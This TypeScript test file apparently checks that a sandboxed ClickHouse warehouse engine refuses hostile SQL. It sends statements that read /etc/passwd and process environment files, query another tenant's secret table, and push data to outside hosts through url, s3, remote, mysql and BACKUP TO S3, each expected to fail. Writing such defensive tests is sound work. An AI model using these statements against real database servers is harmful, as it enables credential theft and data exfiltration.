import { once } from 'node:events';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { HOSTILE_STATEMENTS } from '../fixtures/hostile-statements.js';
import { MORE_HOSTILE_STATEMENTS } from '../fixtures/more-hostile-statements.js';
import { openLocalEngine } from '../server/open-local-engine.js';
import { requestSettings } from '../../libs/warehouse/sql/read-settings.js';
import type { QueryLimits } from '@app/warehouse';
import { openEngine } from '../../libs/warehouse/engine/index.js';
import type { EngineProcess } from '../../libs/warehouse/engine/engine-process.js';
import type { Login } from '../../libs/warehouse/engine/engine-users.js';
import { CANARY, openGuardedEngine, OTHER, OWN, type GuardedEngine } from './guarded-engine.js';

interface Hostile {
  readonly sql: string;
}

const LIMIT_SECONDS = 1;
const SILENT_MS = 3000;
/** The engine tries to connect again and again for some ten seconds before it tells why not. */
const TRIED_MS = 60_000;

/**
 * Asks the engine as an organization's query does, but without the guard and without the watch over
 * queries.
 */
describe('the second wall: hostile statements past the guard', () => {
  let engine: GuardedEngine;
  let server: EngineProcess;
  let bounds: QueryLimits;
  beforeAll(async () => {
    engine = await openGuardedEngine(async (directory, limits) => {
      const local = openLocalEngine(directory);
      const opened = await openEngine({
        directory: join(directory, 'engine'),
        limits,
        memoryBytes: 2 ** 30,
        readers: 4,
        closeEngine: () => local.close(),
        tell: () => undefined,
      });
      server = opened.engine;
      bounds = limits;
      const { warehouse } = opened;
      return { warehouse, localEngine: local, close: () => warehouse.close() };
    });
    // This query makes the database's user.
    await engine.warehouse.text({ sql: 'SELECT 1', database: OWN.database, format: 'text' });
  });
  afterAll(() => engine.close());

  const askAs = async (
    login: Login | undefined,
    sql: string,
    withinMs = SILENT_MS,
    more: Readonly<Record<string, string>> = {},
  ): Promise<string> => {
    const { generation, origin, path } = await server.ready(20_000);
    const settings = new URLSearchParams({
      database: OWN.database,
      ...(login !== server.users.admin && {
        readonly: '1',
        max_execution_time: String(LIMIT_SECONDS),
      }),
      default_format: 'JSONEachRow',
      ...more,
    });
    try {
      const answer = await fetch(`${origin}${path}?${settings.toString()}`, {
        method: 'POST',
        body: sql,
        headers: {
          'X-ClickHouse-User': login?.username ?? '',
          'X-ClickHouse-Key': login?.password ?? '',
        },
        signal: AbortSignal.timeout(withinMs),
      });
      return await answer.text();
    } catch (error) {
      // The engine does not react any more, so the next query must find a new one.
      await server.restart(generation, 'it could not be ended');
      return `failed: ${(error as Error).message}`;
    }
  };

  const ask = (sql: string): Promise<string> => askAs(server.users.reader(OWN.database), sql);

  it('run under the settings of every query, though their requests name none', async () => {
    const settings = Object.entries(requestSettings(bounds)).map(([name, value]) => [
      name,
      String(value),
    ]);
    const values = settings.map(([name = '']) => `toString(getSetting('${name}')) AS ${name}`);
    const sql = `SELECT ${values.join(', ')}`;
    const own = { max_execution_time: String(bounds.timeoutSeconds) };
    const reader = server.users.reader(OWN.database);
    const named = Object.fromEntries(settings) as Readonly<Record<string, string>>;
    const asNamed = JSON.parse(await askAs(reader, sql, SILENT_MS, { ...named, ...own })) as object;
    expect(Object.keys(asNamed)).toHaveLength(settings.length);
    expect(JSON.parse(await askAs(reader, sql, SILENT_MS, own))).toEqual(asNamed);
    expect(JSON.parse(await askAs(server.users.admin, sql))).not.toEqual(asNamed);
  });

  it('give nothing away, write nothing and leave nothing changed', async () => {
    const list = readFileSync(join(import.meta.dirname, '../fixtures/hostile-sql.json'), 'utf8');
    const statements = [
      ...(JSON.parse(list) as readonly Hostile[]).map(({ sql }) => sql),
      ...HOSTILE_STATEMENTS,
      ...MORE_HOSTILE_STATEMENTS,
      `SELECT * FROM ${OTHER}.secret`,
      `SELECT * FROM merge('${OTHER}', '.*')`,
      `SELECT * FROM merge('.*', 'secret')`,
      "SELECT file('{dir}/canary.txt')",
      "SELECT * FROM file('{dir}/canary.csv', CSVWithNames)",
      "SELECT file('/etc/passwd')",
    ].map((sql) =>
      sql
        .replaceAll('{dir}', engine.directory)
        .replaceAll('{other}', OTHER)
        .replaceAll('{cluster}', 'default')
        .replace(/\borg_a\./g, `${OWN.database}.`)
        .replace(/\borg_b\b/g, OTHER),
    );
    const told: string[] = [];
    let answered = 0;
    for (const sql of statements) {
      const answer = await ask(sql);
      if (!answer.startsWith('failed: ')) answered += 1;
      // An error message may repeat the statement.
      const said = answer.replaceAll(sql, '');
      if (said.includes(CANARY) || said.includes('root:x:')) told.push(`${sql}: ${answer}`);
    }
    // All but a few were tried completely.
    expect(answered).toBeGreaterThan(statements.length * 0.9);
    expect(told).toEqual([]);
    expect(readdirSync(join(engine.directory, 'out'))).toEqual([]);
    expect(existsSync(join(engine.directory, 'out1.txt'))).toBe(false);
    const count = (database: string, table: string): Promise<string> =>
      engine.warehouse.text({ sql: `SELECT count() FROM ${table}`, database, format: 'text' });
    expect(await count(OTHER, 'secret')).toBe('3\n');
    expect(await count(OWN.database, 't')).toBe('3\n');
  }, 300_000);

  it.each([
    ['another database', `SELECT * FROM ${OTHER}.secret`, /privileges/],
    ['what is there', 'SELECT * FROM system.users', /privileges/],
    ['who asks', 'SELECT * FROM system.processes', /privileges/],
    ['a file as a table', "SELECT * FROM file('/etc/hostname', LineAsString)", /privileges/],
    ['an address', "SELECT * FROM url('http://127.0.0.1:1/', CSV, 'a Int8')", /privileges/],
    ['a table', 'CREATE TABLE x (a Int8) ENGINE = Memory', /privileges|readonly/],
    ['rows', 'INSERT INTO t (id) VALUES (1)', /privileges|readonly|syntax/i],
    ['more time', 'SELECT 1 SETTINGS max_execution_time = 100', /readonly/],
    ['the end of another query', "KILL QUERY WHERE query_id != ''", /privileges|syntax/i],
  ])('%s is refused by the engine itself', async (_what, sql, reason) => {
    expect(await ask(sql)).toMatch(reason);
  });

  // Other systems have no fence to try.
  const fenced = process.platform === 'linux' ? it : undefined;
  fenced?.('no file of the machine is open to it, nor what other processes are told', async () => {
    expect(await ask("SELECT file('/etc/passwd')")).toMatch(/Permission denied/);
    expect(await ask("SELECT file('/proc/1/environ')")).toMatch(/Permission denied/);
    const own = await ask("SELECT file('/proc/self/environ')");
    expect(own).not.toMatch(/MILLRACE|AWS|KEY|PASSWORD|HOME/);
  });

  fenced?.(
    'no TCP connection is made for any user: not even with the most rights there are',
    async () => {
      let connections = 0;
      const listener = createServer((socket) => {
        connections += 1;
        socket.destroy();
      }).listen(0, '127.0.0.1');
      await once(listener, 'listening');
      const { port } = listener.address() as AddressInfo;
      const host = `127.0.0.1:${port}`;
      try {
        const { admin } = server.users;
        const starter = { username: 'default', password: '' };
        for (const login of [server.users.reader(OWN.database), admin, starter])
          for (const sql of connecting(host)) await askAs(login, sql);
        // No missing right prevents this one; the kernel does.
        expect(await askAs(admin, backUpTo(host), TRIED_MS)).toMatch(/Permission denied/);
        expect(connections).toBe(0);
      } finally {
        listener.close();
      }
    },
    300_000,
  );
});

/** Statements that would connect to an address, by each way that the engine has. */
const connecting = (host: string): readonly string[] => [
  `SELECT * FROM url('http://${host}/', LineAsString)`,
  `INSERT INTO FUNCTION url('http://${host}/', LineAsString, 'a String') SELECT 'x'`,
  `SELECT * FROM s3('http://${host}/bucket/k.csv', 'a', 'b', 'CSV', 'a String')`,
  `SELECT * FROM iceberg('http://${host}/bucket/k', 'a', 'b')`,
  `SELECT * FROM deltaLake('http://${host}/bucket/k', 'a', 'b')`,
  `SELECT * FROM azureBlobStorage('http://${host}/a', 'c', 'k.csv', 'a', 'YQ==', 'CSV', 'auto', 'a String')`,
  `SELECT * FROM remote('${host}', system.one)`,
  `SELECT * FROM mysql('${host}', 'd', 't', 'u', 'p')`,
  `SELECT * FROM postgresql('${host}', 'd', 't', 'u', 'p')`,
  `SELECT * FROM mongodb('${host}', 'd', 't', 'u', 'p', 'a String')`,
  `SELECT * FROM redis('${host}', 'k', 'k String')`,
  `CREATE DATABASE o_away ENGINE = MySQL('${host}', 'd', 'u', 'p')`,
  `CREATE DATABASE o_away ENGINE = PostgreSQL('${host}', 'd', 'u', 'p')`,
  `CREATE DICTIONARY ${OWN.database}.d (k UInt64, v String) PRIMARY KEY k SOURCE(HTTP(URL 'http://${host}/' FORMAT 'CSV')) LIFETIME(0) LAYOUT(FLAT())`,
  `CREATE TABLE ${OWN.database}.away (a Int8) ENGINE = URL('http://${host}/', CSV)`,
  `CREATE TABLE ${OWN.database}.away (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = s3, endpoint = 'http://${host}/bucket/k/', access_key_id = 'a', secret_access_key = 'b')`,
  `CREATE TABLE ${OWN.database}.web (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = web, endpoint = 'http://${host}/')`,
  `BACKUP DATABASE ${OWN.database} TO S3('http://${host}/bucket/k', 'a', 'b')`,
  `RESTORE DATABASE ${OWN.database} AS o_away FROM S3('http://${host}/bucket/k', 'a', 'b')`,
];

const backUpTo = (host: string): string =>
  `BACKUP TABLE ${OWN.database}.t TO AzureBlobStorage('DefaultEndpointsProtocol=http;AccountName=a;AccountKey=YQ==;BlobEndpoint=http://${host}/a;', 'c', 'k')`;
